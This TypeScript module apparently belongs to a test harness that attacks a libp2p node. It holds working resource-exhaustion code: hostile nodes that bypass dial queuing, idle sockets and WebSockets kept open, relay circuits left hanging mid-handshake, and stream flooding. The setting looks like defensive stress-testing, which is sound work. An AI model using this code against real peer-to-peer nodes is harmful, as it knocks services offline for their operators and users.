import { createConnection } from 'node:net'
import { noise } from '@chainsafe/libp2p-noise'
import { yamux } from '@chainsafe/libp2p-yamux'
import { circuitRelayTransport } from '@libp2p/circuit-relay-v2'
import { generateKeyPairFromSeed } from '@libp2p/crypto/keys'
import { identify } from '@libp2p/identify'
import { multiaddr } from '@multiformats/multiaddr'
import { createLibp2p } from 'libp2p'
import { attackAddress } from './addresses.ts'
import { tcpFrom } from './tcp-from.ts'
import { openWebSocket } from './web-socket-client.ts'
import { webSocketsFrom } from './web-sockets-from.ts'
import type { Connection, Libp2p, PrivateKey, Stream, StreamMuxer, Upgrader } from '@libp2p/interface'
import type { TransportManager } from '@libp2p/interface-internal'
import type { Multiaddr } from '@multiformats/multiaddr'
import type { Socket } from 'node:net'

/**
 * How long a dial may take, in ms
 */
const DIAL_TIMEOUT = 5_000

const SEED_LENGTH = 32

/**
 * How long it takes to open a circuit, and more, in ms
 */
const CIRCUIT_INTERVAL = 70

/**
 * A victim as an attacker sees it
 */
export class Target {
  readonly #address: Multiaddr

  /** Of the relay over which the victim can be reached too */
  readonly #relay?: Multiaddr

  /**
   * Which of the attackers this is, from 0 on
   */
  readonly attacker: number

  /**
   * The attack has lasted long enough
   */
  readonly signal: AbortSignal

  /**
   * Nothing is closed before the process ends, and nothing must be collected either
   */
  readonly #kept: unknown[] = []
  #nodes = 0

  constructor (address: Multiaddr, attacker: number, signal: AbortSignal, relay?: Multiaddr) {
    this.#address = address
    this.#relay = relay
    this.attacker = attacker
    this.signal = signal
  }

  /**
   * Starts a hostile node with an identity of its own, which is the same in every run:
   * the victim's peer store keeps all that it has ever met
   *
   * @param address - which of the addresses of the attackers it dials from, or the address
   */
  async startNode (address: number | string): Promise<Libp2p> {
    const node = await createLibp2p({
      privateKey: await this.#identity(this.#nodes++),
      transports: [this.#overWebSockets ? webSocketsFrom(() => addressOf(address)) : tcpFrom(addressOf(address))],
      connectionEncrypters: [noise()],
      streamMuxers: [yamux()],
      connectionMonitor: { enabled: false },
      connectionManager: { maxConnections: 100_000, reconnectRetries: 0 }
    })

    this.#kept.push(node)

    return node
  }

  /**
   * Opens one more connection
   */
  async connect (node: Libp2p): Promise<Connection> {
    // past the queue, in which dials of the same address become one
    const { components: { transportManager } } = node as unknown as { components: { transportManager: TransportManager } }

    const connection = await transportManager.dial(this.#address, {
      signal: AbortSignal.any([this.signal, AbortSignal.timeout(DIAL_TIMEOUT)])
    })

    // a victim takes only few streams before its end is open as well
    await muxerOf(connection).ping()

    return connection
  }

  /**
   * Starts a hostile node that reaches the victim over the relay, and never begins with the
   * handshake there
   *
   * @param address - which of the addresses of the attackers it dials the relay from
   * @returns Opens one more circuit
   */
  async startCircuits (address: number): Promise<() => Promise<void>> {
    const relay = this.#relay

    if (relay == null) {
      throw new Error('there is no relay')
    }

    const node = await createLibp2p({
      privateKey: await this.#identity(this.#nodes++),
      transports: [tcpFrom(attackAddress(address)), circuitRelayTransport()],
      connectionEncrypters: [noise()],
      streamMuxers: [yamux()],
      services: { identify: identify() }
    })
    const { components: { transportManager, upgrader } } = node as unknown as { components: { transportManager: TransportManager, upgrader: Upgrader } }
    const upgrade = upgrader.upgradeOutbound.bind(upgrader)

    upgrader.upgradeOutbound = async (maConn, options: any): Promise<any> => {
      return maConn.remoteAddr.toString().includes('/p2p-circuit') ? new Promise(() => {}) : upgrade(maConn, options)
    }
    this.#kept.push(node)
    await node.dial(relay, { signal: this.signal })

    return async () => {
      const victim = this.#address.toString().split('/p2p/')[1]

      // it never ends where it succeeds
      await Promise.race([
        transportManager.dial(multiaddr(`${relay}/p2p-circuit/p2p/${victim}`), { signal: this.signal }),
        new Promise(resolve => setTimeout(resolve, CIRCUIT_INTERVAL))
      ])
    }
  }

  get #overWebSockets (): boolean {
    return this.#address.toString().includes('/ws')
  }

  /**
   * Opens a WebSocket that nobody does anything with
   */
  async openWebSocket (address: number): Promise<Socket> {
    const [{ value: host }, { value: port }] = this.#address.getComponents()
    const socket = await openWebSocket({ host: String(host), port: Number(port), localAddress: attackAddress(address), signal: this.signal })

    this.#kept.push(socket)

    return socket
  }

  /**
   * Opens a socket that nobody does anything with
   */
  openSocket (address: number | string): Socket {
    const [{ value: host }, { value: port }] = this.#address.getComponents()
    const socket = createConnection({ host, port: Number(port), localAddress: addressOf(address) })

    // the victim may reset it
    socket.on('error', () => {})
    this.#kept.push(socket)

    return socket
  }

  /**
   * Sends a chunk so many times, and waits whenever the victim does not take it
   */
  async send (stream: Stream, chunk: Uint8Array, times: number): Promise<void> {
    for (let sent = 0; sent < times; sent++) {
      if (!stream.send(chunk)) {
        await stream.onDrain({ signal: this.signal })
      }
    }
  }

  /**
   * Does something so many times, some of them at a time, whatever becomes of it
   */
  async repeat (times: number, parallel: number, act: (i: number) => unknown): Promise<void> {
    let next = 0

    await Promise.all(Array.from({ length: parallel }, async () => {
      while (next < times && !this.signal.aborted) {
        try {
          await act(next++)
        } catch {
          // a victim that defends itself
        }

        // other work must get its turn even where nothing is waited for
        await new Promise(resolve => setImmediate(resolve))
      }
    }))
  }

  async #identity (node: number): Promise<PrivateKey> {
    const seed = new Uint8Array(SEED_LENGTH)

    new DataView(seed.buffer).setUint32(0, this.attacker)
    new DataView(seed.buffer).setUint32(4, node)

    return generateKeyPairFromSeed('Ed25519', seed)
  }
}

function addressOf (address: number | string): string {
  return typeof address === 'number' ? attackAddress(address) : address
}

/**
 * The muxer of a connection, which no well-behaved node would reach for
 */
export interface HostileMuxer extends StreamMuxer {
  send (data: Uint8Array): boolean
  ping (): Promise<number>
}

export function muxerOf (connection: Connection): HostileMuxer {
  return (connection as unknown as { muxer: HostileMuxer }).muxer
}
